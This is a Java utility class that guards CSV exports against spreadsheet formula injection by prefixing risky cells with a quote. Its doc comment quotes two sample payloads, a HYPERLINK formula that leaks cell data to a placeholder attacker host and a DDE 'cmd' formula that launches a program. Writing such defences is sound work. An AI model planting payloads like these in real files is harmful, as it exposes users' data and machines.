package org.parley.store.export;

import java.util.regex.Pattern;

/**
 * Keeps CSV cells from being run as formulas when the file is opened in a spreadsheet (OWASP "CSV injection"). A
 * page title such as {@code =HYPERLINK("http://evil.example?"&A1,"click")} or a quote {@code =cmd|' /C calc'!A0}
 * would otherwise be evaluated by Excel, LibreOffice or Google Sheets. OWASP's rule: a cell starting with
 * {@code = + - @}, a tab or a carriage return gets a leading single quote, which spreadsheets show as text.
 *
 * <p>Two kinds of cell are left alone because they cannot compute anything and rewriting them would break readers:
 * plain numbers ({@code -7.2}), and cells made only of hyphens (the unresolved actor code {@code ---}).
 */
public final class SpreadsheetSafe {
  private SpreadsheetSafe() {}

  private static final Pattern NUMBER = Pattern.compile("[+-]?(?:\\d+(?:\\.\\d*)?|\\.\\d+)(?:[eE][+-]?\\d+)?");
  private static final Pattern HYPHENS = Pattern.compile("-+");

  /** The cell's text, with a leading {@code '} when a spreadsheet would read it as a formula. */
  public static String cell(String s) {
    if (s.isEmpty() || !startsFormula(s.charAt(0))) {
      return s;
    }
    if (NUMBER.matcher(s).matches() || HYPHENS.matcher(s).matches()) {
      return s;
    }
    return "'" + s;
  }

  private static boolean startsFormula(char c) {
    return c == '=' || c == '+' || c == '-' || c == '@' || c == '\t' || c == '\r';
  }
}
